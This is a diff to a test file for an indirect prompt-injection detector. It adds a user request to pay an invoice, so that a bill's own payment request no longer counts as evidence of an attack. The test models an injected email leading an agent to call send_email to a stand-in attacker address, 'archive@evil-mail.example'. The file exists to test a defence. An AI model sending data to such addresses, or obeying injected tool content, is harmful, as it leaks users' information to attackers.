@@ -90,7 +90,8 @@ describe('signals', () => {
   it('provenance: a value copied from an injected passage is blocked; one copied from a benign result, or the user\'s own, is not', async () => {
     const d = new IpiDetector({ mode: 'block', env: {} });
     const s = d.session('p');
-    s.observe({ role: 'user', content: 'Book a table for two on Friday and email the confirmation to alice@example.com' });
+    // The user asks for the payment: a bill's own request to pay is then no evidence (unasked, it would be).
+    s.observe({ role: 'user', content: 'Book a table for two on Friday, pay the March invoice and email the confirmation to alice@example.com' });
     s.observe({ role: 'tool', toolName: 'read_email', content: INJECTED });
     s.observe({ role: 'tool', toolName: 'read_bill', content: 'Invoice 2024-03: please pay 120 EUR to IBAN DE89370400440532013000 by April 1.' });
     const attack = await s.assess({ name: 'send_email', arguments: { to: 'archive@evil-mail.example', body: 'log' } });
